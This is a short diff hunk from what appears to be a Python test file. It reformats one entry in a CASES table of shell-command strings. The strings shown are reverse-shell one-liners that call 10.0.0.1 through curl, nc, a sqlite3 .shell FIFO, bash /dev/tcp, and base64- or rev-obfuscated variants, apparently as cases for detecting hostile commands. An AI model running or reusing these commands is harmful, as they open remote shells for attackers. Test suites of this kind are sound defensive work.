@@ -66,7 +66,8 @@ CASES: dict[str, tuple[list[str], list[str], list[str]]] = {
         ],
         [
             "C='curl -Ns telnet://10.0.0.1:4242'; $C </dev/null 2>&1 | sh 2>&1 | $C >/dev/null",
-            "sqlite3 /dev/null '.shell rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1 >/tmp/f'",
+            "sqlite3 /dev/null '.shell rm /tmp/f;mkfifo /tmp/f;"
+            "cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1 >/tmp/f'",
             b64sh("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
             "echo 'hs/nib/ e- 1 1.1.1.1 cn' | rev | sh",
             "sh -c \"$(printf 'nc -e /bin/sh 10.0.0.1 4242')\"",
